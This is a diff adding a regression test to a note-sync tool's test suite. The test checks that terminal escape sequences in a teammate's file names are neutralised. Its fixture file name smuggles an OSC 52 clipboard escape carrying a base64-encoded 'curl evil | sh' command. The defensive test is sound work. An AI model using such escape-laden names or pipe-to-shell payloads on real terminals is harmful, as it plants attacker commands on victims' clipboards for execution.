@@ -145,3 +145,13 @@ def test_a_note_deleted_on_one_clone_and_edited_on_the_other_stays_out_of_the_tr
     for name in ("victim", "mallory"):
         assert c.read(name, "facts/Fact 3.md") == edited, name
         assert not (c.vaults[name] / ".trash" / "facts" / "Fact 3.md").exists()
+
+
+def test_remote_file_names_never_send_escapes_to_the_terminal(cluster):
+    """Before: `in: added facts/<ESC>]52;c;...<BEL>.md` wrote the teammate's text to the clipboard."""
+    c = cluster
+    name = "facts/Clip \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07.md"
+    c.write("mallory", name, NOTE.format(id="clip0002", title="Clip"))
+    c.vm("mallory", "sync")
+    out = _sync(c, "victim")
+    assert "\x1b" not in out and "\x07" not in out and "in: added facts/Clip \\x1b]52;c;" in out
